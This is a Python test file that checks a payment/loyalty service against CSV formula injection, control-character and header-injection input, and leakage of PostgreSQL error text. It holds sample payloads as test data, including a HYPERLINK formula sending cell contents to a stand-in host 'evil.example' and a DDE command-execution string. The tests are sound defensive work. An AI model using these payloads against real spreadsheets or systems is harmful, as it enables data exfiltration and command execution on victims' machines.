"""Input that cannot hurt a reader (issue 11, finding 8, build item 7), against the running
services: formula-like names and families are neutralised in every CSV, control characters
are refused at the edge, a product family is a product family code, and the database's own text
never reaches an answer."""

from __future__ import annotations

import asyncio
import csv
import io
import secrets
import uuid
from typing import Any

import aiohttp
import asyncpg
import orjson
import pytest

from shared import clock
from shared.client import Reply
from shared.http import database_problem
from tests import harness
from tests.conftest import NetworkFactory, eventually

pytestmark = pytest.mark.asyncio

CARDS = harness.url("cards")
CLEARING = harness.url("clearing")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
CALC = "+cmd|' /C calc'!A0"
RLO = "Zo\u202eé"


async def _csv(http: aiohttp.ClientSession, url: str, delimiter: str = ",") -> list[dict[str, str]]:
    """The CSV's lines; a statement's is French Excel's (a byte-order mark, ";")."""
    async with http.get(url, headers={"Authorization": f"Bearer {harness.ADMIN_TOKEN}"}) as r:
        assert r.status == 200, await r.text()
        text = (await r.read()).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


async def test_formula_names_and_families_are_neutralised_in_the_statement_csv(
    make_network: NetworkFactory, http: aiohttp.ClientSession
) -> None:
    net = await make_network(merchants=1)
    till, mid = net.terminals[0], net.merchants[0]
    phone = "+33611880001"
    enrolled = await till.enrol(phone, first_name=CALC, last_name=HYPERLINK)
    assert enrolled.status == 201, enrolled
    sale = await till.sale(phone, 2500, product_family="-cmd")
    assert sale.status == 201, sale
    refund = await till.return_sale(sale.body["sale_id"], 2500, reason="cancelled")
    assert refund.status == 201, refund
    period = clock.today_paris().strftime("%Y-%m")
    url = f"{CLEARING}/v1/merchants/{mid}/statements/{period}.csv"

    async def both_lines() -> bool:
        return len([r for r in await _csv(http, url, ";") if r["NOM"]]) >= 2

    await eventually(both_lines, what="the sale and its cancellation in the statement CSV")
    rows = [r for r in await _csv(http, url, ";") if r["NOM"]]
    for r in rows:
        assert r["NOM"] == "'" + HYPERLINK, r
        assert r["PRENOM"] == "'" + CALC, r
        assert r["UNIVERS"] in ("'-cmd", ""), r
    assert "'-cmd" in {r["UNIVERS"] for r in rows}
    # amounts our code computed stay numbers, a cancellation's negative one included
    values = sorted(r["VALEUR"] for r in rows)
    assert values == ["-25,00", "25,00"], values


async def test_formula_names_are_neutralised_in_the_card_printer_csv(
    make_network: NetworkFactory, http: aiohttp.ClientSession
) -> None:
    net = await make_network(merchants=1)
    aid = net.association_id
    r = await net.admin.call(
        "PUT",
        f"{CARDS}/v1/associations/{aid}",
        {
            "name": "=1+2",
            "rate_mode": "merchant",
            "taux_client_bps": 300,
            "taux_uc_bps": 50,
            "issuer_prefix": f"{800000 + secrets.randbelow(100000)}",
        },
    )
    assert r.status == 200, r
    issue_id = str(uuid.uuid4())
    r = await net.admin.call(
        "POST",
        f"{CARDS}/v1/associations/{aid}/cards",
        {"issue_id": issue_id, "first_name": CALC, "last_name": "@SUM(1,2)"},
    )
    assert r.status == 201, r
    (row,) = await _csv(http, f"{CARDS}/v1/card-batches/{issue_id}.csv")
    assert row["first_name"] == "'" + CALC
    assert row["last_name"] == "'@SUM(1,2)"
    assert row["association"] == "'=1+2"
    assert row["raw_number"].isdigit()


@pytest.mark.parametrize("bad", [RLO, "Zoé\x1b[31m", "Zoé\r\nBcc: x", "Zo\u200bé"])
async def test_names_with_control_or_format_characters_are_refused_at_the_edge(
    make_network: NetworkFactory, bad: str
) -> None:
    net = await make_network(merchants=1)
    till = net.terminals[0]
    enrolled = await till.enrol("+33611880002", last_name=bad)
    assert enrolled.status == 422, enrolled
    assert [e["field"] for e in enrolled.body["errors"]] == ["last_name"], enrolled
    merchant = await net.admin.call(
        "PUT",
        f"{CARDS}/v1/associations/{net.association_id}/merchants/{uuid.uuid4()}",
        {"name": bad},
    )
    assert merchant.status == 422, merchant
    terminal = await net.admin.call(
        "PUT",
        f"{harness.url('terminals')}/v1/terminals/{uuid.uuid4()}",
        {
            "association_id": str(net.association_id),
            "merchant_id": str(net.merchants[0]),
            "shop_id": str(net.merchants[0]),
            "label": bad,
        },
    )
    assert terminal.status == 422, terminal


@pytest.mark.parametrize("family", ["=1+2", "+cmd|' /C calc'!A0", "a b", "menu\u202e"])
async def test_a_product_family_that_is_not_a_well_formed_code_is_refused(
    make_network: NetworkFactory, family: str
) -> None:
    net = await make_network(merchants=1)
    r = await net.terminals[0].sale("+33611880003", 1000, product_family=family)
    assert r.status == 422, r
    assert [e["field"] for e in r.body["errors"]] == ["product_family"], r


async def test_a_well_formed_family_the_merchant_does_not_hold_earns_as_a_sale_without_family(
    make_network: NetworkFactory,
) -> None:
    """The documented rule (docs/rules.md, step family.unknown), unchanged."""
    net = await make_network(merchants=1, taux_client_bps=300)
    r = await net.terminals[0].sale("+33611880004", 1000, product_family="not-in-catalogue")
    assert r.status == 201, r
    assert r.body["reward_cents"] == 30


async def test_what_postgresql_refuses_is_answered_with_a_reason_and_none_of_its_text(
    db: asyncpg.Connection,
) -> None:
    """Real refusals from PostgreSQL, one of each kind the edge maps: the answer names a
    stable reason; the constraint, the table and the key values stay in the log."""
    await db.execute(
        """CREATE TEMP TABLE h7_parent (id int PRIMARY KEY, code text UNIQUE,
               n int CHECK (n > 0));
           CREATE TEMP TABLE h7_child (parent int REFERENCES h7_parent (id));
           INSERT INTO h7_parent VALUES (1, 'secret-key-value', 1);
           INSERT INTO h7_child VALUES (1)"""
    )
    statements = {
        "conflict": "INSERT INTO h7_parent VALUES (2, 'secret-key-value', 1)",
        "database_rule": "INSERT INTO h7_parent VALUES (3, 'x', -1)",
        "unknown_reference": "INSERT INTO h7_child VALUES (42)",
        "still_in_use": "DELETE FROM h7_parent WHERE id = 1",
        "invalid_value": "SELECT 'not a number'::int",
    }
    for reason, sql in statements.items():
        with pytest.raises(asyncpg.PostgresError) as refused:
            await db.execute(sql)
        problem = database_problem(refused.value)
        assert problem is not None, sql
        body = orjson.loads(problem.response("/x").body)  # type: ignore[arg-type]
        assert body["reason"] == reason, body
        assert (
            not _leaks(body) and "secret-key-value" not in str(body) and "h7_" not in str(body)
        ), body


def _leaks(body: Any) -> list[str]:
    text = str(body)
    words = ("constraint", "Key (", "duplicate key", "violates", "_key", "_fkey", "invalid input")
    return [w for w in words if w in text]


async def test_a_database_refusal_answers_a_reason_code_never_the_databases_text(
    make_network: NetworkFactory,
) -> None:
    """Associations raced for one issuer prefix: the check before the insert lets several
    through, the unique index refuses all but one. The losers get a problem with a reason, not
    PostgreSQL's message (constraint name, the prefix's key value)."""
    net = await make_network(merchants=1)
    prefix = f"{700000 + secrets.randbelow(100000)}"

    async def claim() -> Reply:
        return await net.admin.call(
            "PUT",
            f"{CARDS}/v1/associations/{uuid.uuid4()}",
            {
                "name": "race",
                "rate_mode": "merchant",
                "taux_client_bps": 300,
                "taux_uc_bps": 50,
                "issuer_prefix": prefix,
            },
        )

    replies = await asyncio.gather(*(claim() for _ in range(12)))
    assert sorted(r.status for r in replies).count(201) == 1, replies
    for r in replies:
        if r.status != 201:
            assert r.status == 409, r
            assert r.body.get("reason") in ("issuer_prefix_taken", "conflict"), r
            assert not _leaks(r.body), r
